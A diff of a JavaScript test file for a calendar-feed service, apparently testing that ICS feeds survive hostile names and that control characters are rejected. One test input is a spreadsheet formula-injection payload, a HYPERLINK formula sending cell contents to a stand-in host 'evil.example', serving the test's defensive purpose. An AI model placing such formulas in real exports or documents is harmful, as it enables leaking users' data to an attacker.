@@ -310,14 +310,13 @@ describe('calendar clients', () => {
 
   it('take a feed built from hostile names', async () => {
     const programme = await t.make.programme({ name: 'SOP; "2013", \\Kota\\ — <b>&amp;</b> 😀' });
-    const { period, slot } = await seedPeriod(t, { location: 'Ruang; Rapat, "Lt. 2"' });
+    const { programme: other, period, slot } = await seedPeriod(t, { location: 'Ruang; Rapat, "Lt. 2"' });
     const unit = await t.make.unit({ name: '=HYPERLINK("http://evil.example/?"&A1,"klik")' });
     await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: unit.id, slotId: slot('2013-10-21').id, topic: 'Baris 1\nBaris 2\tdengan tab' });
-    for (const url of [`/calendars/programmes/${programme.id}.ics`, `/calendars/programmes/${period.programmeId}.ics`]) {
-      const text = await feedOf(url);
-      expect(rawProblems(text)).toEqual([]);
-      expect(parseFeed(text).size).toBeGreaterThanOrEqual(0);
-    }
+    expect(rawProblems(await feedOf(`/calendars/programmes/${programme.id}.ics`))).toEqual([]);
+    const text = await feedOf(`/calendars/programmes/${other.id}.ics`);
+    expect(rawProblems(text)).toEqual([]);
+    expect([...parseFeed(text).values()].map((e) => e.summary)).toContain('Asistensi SOP - =HYPERLINK("http://evil.example/?"&A1,"klik")');
     expectProblem(await t.organiser.post('/units', { code: 'BEL', name: 'Dinas\u0007', kind: 'dinas' }), 400, 'VALIDATION_FAILED');
     const topic = expectProblem(await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: unit.id, slotId: slot('2013-10-22').id, topic: 'a\u2028b' }), 400, 'VALIDATION_FAILED');
     expect(topic.errors).toEqual([{ path: '/body/topic', message: 'must not contain control characters (only tab and newline)' }]);
